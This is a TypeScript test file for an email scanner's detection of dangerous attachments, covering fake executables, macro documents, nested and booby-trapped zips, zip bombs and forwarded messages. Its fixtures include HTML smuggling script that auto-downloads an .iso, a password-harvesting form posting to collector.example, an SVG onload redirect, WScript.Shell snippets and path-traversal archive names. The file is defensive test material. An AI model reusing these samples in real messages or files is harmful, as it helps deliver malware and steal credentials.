import { randomBytes } from "node:crypto";
import { describe, expect, it } from "vitest";
import { attachmentSignals } from "../../../../server/mail/scan/attachments";
import { decide } from "../../../../server/mail/scan/decide";
import { BuiltinScanner } from "../../../../server/mail/scan/scanner";
import { inspectZip } from "../../../../server/mail/scan/zip-inspect";
import { buildRaw, forwardsPastLimits, scanInput } from "./support/messages";
import { buildZip } from "./support/zip-builder";

const PE = Buffer.concat([Buffer.from("MZ"), Buffer.alloc(200, 0x90)]);
const PDF = Buffer.from("%PDF-1.7\n1 0 obj <<>> endobj\n%%EOF\n");
const PNG = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(32)]);
const OLE_HEADER = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);

async function ids(
  files: Array<{ filename: string; content: Buffer; contentType?: string }>,
): Promise<string[]> {
  return (await attachmentSignals(files)).map((s) => s.id).sort();
}

describe("dangerous attachments", () => {
  it("flags executables by extension and by content, and scripts", async () => {
    expect(await ids([{ filename: "setup.exe", content: PE }])).toEqual(["attachment.executable"]);
    expect(await ids([{ filename: "photo.iso", content: Buffer.alloc(64) }])).toEqual([
      "attachment.executable",
    ]);
    expect(await ids([{ filename: "invoice.js", content: Buffer.from("WScript.Shell") }])).toEqual([
      "attachment.script",
    ]);
    expect(await ids([{ filename: "statement.pdf", content: PE }])).toEqual(["attachment.executable"]);
  });

  it("flags double extensions and right-to-left-override names", async () => {
    expect(await ids([{ filename: "invoice.pdf.exe", content: PE }])).toEqual([
      "attachment.double_extension",
      "attachment.executable",
    ]);
    expect(await ids([{ filename: "report\u202Efdp.scr", content: PE }])).toEqual([
      "attachment.double_extension",
      "attachment.executable",
    ]);
  });

  it("flags a file whose content does not match its extension", async () => {
    expect(await ids([{ filename: "scan.pdf", content: PNG }])).toEqual(["attachment.type_mismatch"]);
    expect(
      await ids([{ filename: "scan.pdf", contentType: "image/png", content: Buffer.alloc(10) }]),
    ).toEqual(["attachment.type_mismatch"]);
    expect(
      await ids([{ filename: "scan.pdf", contentType: "application/octet-stream", content: PDF }]),
    ).toEqual([]);
    expect(await ids([{ filename: "scan.pdf", contentType: "application/pdf", content: PDF }])).toEqual([]);
  });

  it("flags HTML smuggling and phishing pages, but not a plain HTML attachment", async () => {
    const smuggle =
      '<html><script>var b=atob("TVqQ");var blob=new Blob([b]);var a=document.createElement("a");a.href=URL.createObjectURL(blob);a.download="x.iso";a.click();</script></html>';
    expect(await ids([{ filename: "Document.html", content: Buffer.from(smuggle) }])).toEqual([
      "attachment.html_smuggling",
    ]);
    const page =
      '<html><form action="https://collector.example/p" method="post"><input type="password" name="pw"></form></html>';
    const signals = await attachmentSignals([{ filename: "Voicemail.htm", content: Buffer.from(page) }]);
    expect(signals.map((s) => s.id)).toEqual(["attachment.html_form"]);
    expect(
      await ids([
        { filename: "newsletter.html", content: Buffer.from("<html><body><h1>News</h1></body></html>") },
      ]),
    ).toEqual([]);
  });

  it("reads script in an element's event handler as script, as browsers run it", async () => {
    // Only <script> counted: the same smuggling or redirect in <body onload> or <svg onload> raised nothing.
    const smuggle = `<html><body onload="var b=new Blob([atob('TVqQ')]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='invoice.iso';a.click()"></body></html>`;
    expect(await ids([{ filename: "Invoice.html", content: Buffer.from(smuggle) }])).toEqual([
      "attachment.html_smuggling",
    ]);
    const redirect = `<svg xmlns="http://www.w3.org/2000/svg"/onload="window.location='https://collector.example/'"></svg>`;
    expect(
      await ids([
        { filename: "Voicemail.svg", contentType: "image/svg+xml", content: Buffer.from(redirect) },
      ]),
    ).toEqual(["attachment.script"]); // an SVG image that runs script is a script (svg-script tests)
    // Words in the text that only look like a handler are not script.
    const text =
      "<html><body><p>Call on=1 or write: onboarding = done</p><p>atob( new Blob( </p></body></html>";
    expect(await ids([{ filename: "notes.html", content: Buffer.from(text) }])).toEqual([]);
  });

  it("flags macro documents by extension, in OLE files and in renamed OOXML files", async () => {
    expect(
      await ids([
        {
          filename: "budget.xlsm",
          content: buildZip([{ name: "xl/workbook.xml", content: Buffer.from("<x/>") }]),
        },
      ]),
    ).toEqual(["attachment.macro"]);
    const ole = Buffer.concat([
      OLE_HEADER,
      Buffer.alloc(500),
      Buffer.from("_VBA_PROJECT", "utf16le"),
      Buffer.alloc(100),
    ]);
    expect(await ids([{ filename: "letter.doc", content: ole }])).toEqual(["attachment.macro"]);
    const docxWithMacros = buildZip([
      { name: "[Content_Types].xml", content: Buffer.from("<Types/>") },
      { name: "word/vbaProject.bin", content: Buffer.alloc(64, 1) },
    ]);
    expect(await ids([{ filename: "contract.docx", content: docxWithMacros }])).toEqual(["attachment.macro"]);
  });

  it("does not flag ordinary documents, images, archives of documents or developer scripts", async () => {
    const docx = buildZip([
      { name: "[Content_Types].xml", content: Buffer.from("<Types/>") },
      { name: "word/document.xml", content: Buffer.from("<w:document/>") },
    ]);
    const zip = buildZip([
      { name: "notes.txt", content: Buffer.from("hello") },
      { name: "scan.pdf", content: PDF },
    ]);
    const oleClean = Buffer.concat([OLE_HEADER, Buffer.alloc(600)]);
    expect(
      await ids([
        { filename: "report.pdf", content: PDF },
        { filename: "photo.png", content: PNG },
        { filename: "contract.docx", content: docx },
        { filename: "old.doc", content: oleClean },
        { filename: "papers.zip", content: zip },
        { filename: "fix.patch", content: Buffer.from("--- a\n+++ b\n") },
        { filename: "build.sh", content: Buffer.from("#!/bin/sh\nmake\n") },
      ]),
    ).toEqual([]);
  });

  it("looks inside zips, including nested ones, for programs and scripts", async () => {
    const inner = buildZip([
      { name: "payload.js", content: Buffer.from("new ActiveXObject('WScript.Shell')") },
    ]);
    const outer = buildZip([
      { name: "readme.txt", content: Buffer.from("open me") },
      { name: "docs/inner.zip", content: inner },
    ]);
    const signals = await attachmentSignals([{ filename: "order.zip", content: outer }]);
    expect(signals.map((s) => s.id)).toEqual(["attachment.archive_dangerous"]);
    expect(signals[0]?.label).toContain("order.zip/docs/inner.zip/payload.js");
    expect(
      await ids([{ filename: "pics.zip", content: buildZip([{ name: "IMG_0001.jpg.exe", content: PE }]) }]),
    ).toEqual(["attachment.archive_dangerous", "attachment.double_extension"]);
    expect(
      await ids([{ filename: "data.zip", content: buildZip([{ name: "data.txt", content: PE }]) }]),
    ).toEqual(["attachment.archive_dangerous"]);
  });

  it("keeps looking past an entry whose path climbs out of the archive or is absolute", async () => {
    // Such a name made the zip reader stop listing: a program behind it went unseen and the message scored 0.
    for (const trap of ["../readme.txt", "/readme.txt", "C:readme.txt", "docs/../../readme.txt"]) {
      const zip = buildZip([
        { name: "invoice.pdf", content: PDF },
        { name: trap, content: Buffer.from("open invoice.exe") },
        { name: "invoice.exe", content: PE },
      ]);
      expect(await ids([{ filename: "invoice.zip", content: zip }]), trap).toEqual([
        "attachment.archive_dangerous",
      ]);
    }
    const signals = await attachmentSignals([
      { filename: "a.zip", content: buildZip([{ name: "../../Startup/run.lnk", content: Buffer.alloc(8) }]) },
    ]);
    expect(signals.map((s) => s.id)).toEqual(["attachment.archive_dangerous"]);
    expect(signals[0]?.label).toContain("a.zip/../../Startup/run.lnk");
  });

  it("flags password-protected zips", async () => {
    const encrypted = buildZip([{ name: "invoice.pdf", content: PDF, encrypted: true }]);
    const report = await inspectZip(encrypted);
    expect(report.encrypted).toBe(true);
    expect(await ids([{ filename: "invoice.zip", content: encrypted }])).toEqual([
      "attachment.encrypted_archive",
    ]);
  });

  it("detects zip bombs as a signal without expanding them", async () => {
    const ratioBomb = buildZip([{ name: "zeros.bin", content: Buffer.alloc(40 * 1024 * 1024) }]);
    expect(ratioBomb.length).toBeLessThan(200_000);
    const before = process.memoryUsage().rss;
    expect(await ids([{ filename: "bomb.zip", content: ratioBomb }])).toEqual(["attachment.zip_bomb"]);
    expect(process.memoryUsage().rss - before).toBeLessThan(100 * 1024 * 1024);

    const liar = buildZip([{ name: "a.txt", content: Buffer.from("small"), declaredSize: 0xfffffff0 }]);
    expect((await inspectZip(liar)).bomb).toMatch(/expands to more than/);

    const many = buildZip(
      Array.from({ length: 2100 }, (_, i) => ({ name: `f${i}.txt`, content: Buffer.from("x") })),
    );
    expect((await inspectZip(many)).bomb).toMatch(/2100 entries/);

    let nested = buildZip([{ name: "core.txt", content: Buffer.from("x") }]);
    for (let depth = 0; depth < 5; depth++)
      nested = buildZip([{ name: `level${depth}.zip`, content: nested }]);
    expect((await inspectZip(nested)).bomb).toMatch(/nested more than/);
  });

  it("reports broken and unopenable archives instead of throwing", async () => {
    const zip = buildZip([{ name: "a.txt", content: Buffer.from("hello world") }]);
    expect(await ids([{ filename: "broken.zip", content: zip.subarray(0, zip.length - 30) }])).toEqual([
      "attachment.unscannable_archive",
    ]);
    expect(await ids([{ filename: "files.rar", content: Buffer.from("Rar!\x1a\x07\x00rest") }])).toEqual([
      "attachment.unscannable_archive",
    ]);
    const report = await inspectZip(Buffer.from("PK\x03\x04 not really a zip"));
    expect(report.error).not.toBeNull();
  });

  it("reports an archive whose listing breaks off part way, not only one that lists nothing", async () => {
    // An entry the reader refuses (here: the strong-encryption flag) ends the listing; what follows it is unknown.
    const zip = buildZip([
      { name: "invoice.pdf", content: PDF },
      { name: "secret.bin", content: Buffer.from("x") },
      { name: "invoice.exe", content: PE },
    ]);
    const second = zip.indexOf(
      Buffer.from([0x50, 0x4b, 0x01, 0x02]),
      zip.indexOf("PK\x01\x02", 0, "latin1") + 4,
    );
    zip.writeUInt16LE(zip.readUInt16LE(second + 8) | 0x41, second + 8);
    expect((await inspectZip(zip)).members.map((m) => m.name)).toEqual(["invoice.pdf"]);
    expect(await ids([{ filename: "invoice.zip", content: zip }])).toEqual([
      "attachment.unscannable_archive",
    ]);
    // The same for a nested archive that cannot be listed.
    const outer = buildZip([
      { name: "readme.txt", content: Buffer.from("see inner") },
      { name: "inner.zip", content: zip },
    ]);
    expect(await ids([{ filename: "outer.zip", content: outer }])).toEqual([
      "attachment.unscannable_archive",
    ]);
  });

  it("reports an archive inside a zip that it could not open: another format, or too large to read", async () => {
    // Each raised nothing: a rar, or a zip padded past the 8 MiB read limit, hid a program from every check.
    const rar = buildZip([{ name: "docs/invoice.rar", content: Buffer.from("Rar!\x1a\x07\x00rest") }]);
    const rarSignals = await attachmentSignals([{ filename: "invoice.zip", content: rar }]);
    expect(rarSignals.map((s) => s.id)).toEqual(["attachment.unscannable_archive"]);
    expect(rarSignals[0]?.label).toContain("invoice.zip/docs/invoice.rar");
    const padded = buildZip([
      { name: "photos.jpg", content: randomBytes(8.5 * 1024 * 1024) },
      { name: "invoice.exe", content: PE },
    ]);
    const outer = buildZip([{ name: "invoice.zip", content: padded }]);
    expect(await ids([{ filename: "order.zip", content: outer }])).toEqual([
      "attachment.unscannable_archive",
    ]);
    // A password-protected zip inside one is reported as that, once.
    const locked = buildZip([{ name: "inner.zip", content: padded.subarray(0, 64), encrypted: true }]);
    expect(await ids([{ filename: "order.zip", content: locked }])).toEqual(["attachment.encrypted_archive"]);
  });

  it("marks malware so that a permitted sender's message is still held", async () => {
    const raw = buildRaw({
      from: "Partner <ap@partner.example>",
      text: "Invoice attached",
      attachments: [{ filename: "invoice.pdf.exe", content: PE }],
    });
    const a = await new BuiltinScanner().assess(await scanInput(raw));
    expect(a.malware).toBe(true);
    const d = decide(a, {
      org: [{ id: "o1", scope: "tenant", kind: "permit", pattern: "partner.example" }],
      personal: [],
    });
    expect(d).toMatchObject({ action: "hold", reason: "dangerous_attachment" });
  });

  // message/global (RFC 6532) too: the scanner opened message/rfc822 only, and the same forward typed
  // message/global passed with no signal at all.
  it.each(["message/rfc822", "message/global"])(
    "checks the attachments and links of an attached message (%s)",
    async (contentType) => {
      const inner = buildRaw({
        from: "x@example.net",
        text: "see file, or sign in at http://198.51.100.7/o365/login",
        attachments: [{ filename: "tool.exe", content: PE }],
      });
      const outer = buildRaw({
        text: "forwarding",
        attachments: [{ filename: "forwarded", contentType, content: inner }],
      });
      const ids = (await new BuiltinScanner().assess(await scanInput(outer))).signals.map((s) => s.id);
      expect(ids).toContain("attachment.executable");
      expect(ids).toContain("url.ip_host");
    },
  );

  it("says so when it leaves an attached message unopened: nested too deep, or too large", async () => {
    // Both were skipped without a word: four forwards deep, or one forward over 5 MB, hid tool.exe at score 0.
    const { nested, outer } = forwardsPastLimits("message/rfc822", PE);
    const deep = await new BuiltinScanner().assess(await scanInput(nested));
    expect(deep.signals.map((s) => s.id)).toEqual(["policy.scan_incomplete"]);
    const a = await new BuiltinScanner().assess(await scanInput(outer));
    expect(a.signals.map((s) => s.id)).toEqual(["policy.scan_incomplete"]);
    expect(a.signals[0]?.label).toContain("attached messages");
  });
});
